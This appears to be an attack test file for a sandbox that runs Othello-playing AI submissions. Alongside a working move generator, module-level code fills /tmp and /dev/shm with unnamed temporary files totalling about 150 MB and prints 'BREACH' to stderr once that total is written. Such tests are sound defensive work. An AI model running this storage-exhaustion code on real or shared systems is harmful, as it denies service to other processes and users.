# attack: fills the scratch folders, with files that have no name any more
# kind: py
# options:
# expect: plays
import os
import sys
import tempfile


def legal(board, color):
    def flips(r, c, a, b):
        n, on = 1, lambda n: 0 <= r + n * a < 8 and 0 <= c + n * b < 8
        while on(n) and board[r + n * a][c + n * b] == -color:
            n += 1
        return n > 1 and on(n) and board[r + n * a][c + n * b] == color
    free = [(r, c) for r in range(8) for c in range(8) if board[r][c] == 0]
    return [(r, c) for r, c in free if any(flips(r, c, a, b) for a in (-1, 0, 1) for b in (-1, 0, 1))]


FILES, written = [], 0
for folder in ("/tmp", "/dev/shm"):
    try:
        while written < 150:
            FILES.append(tempfile.TemporaryFile(dir=folder))
            for _ in range(20):
                FILES[-1].write(bytes(1 << 20))
                FILES[-1].flush()
                written += 1
        print("BREACH", folder, file=sys.stderr)
    except OSError:
        continue


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.color, self.candidate_list = color, []

    def go(self, chessboard):
        moves = legal(chessboard, self.color)
        self.candidate_list = moves + moves[:1]
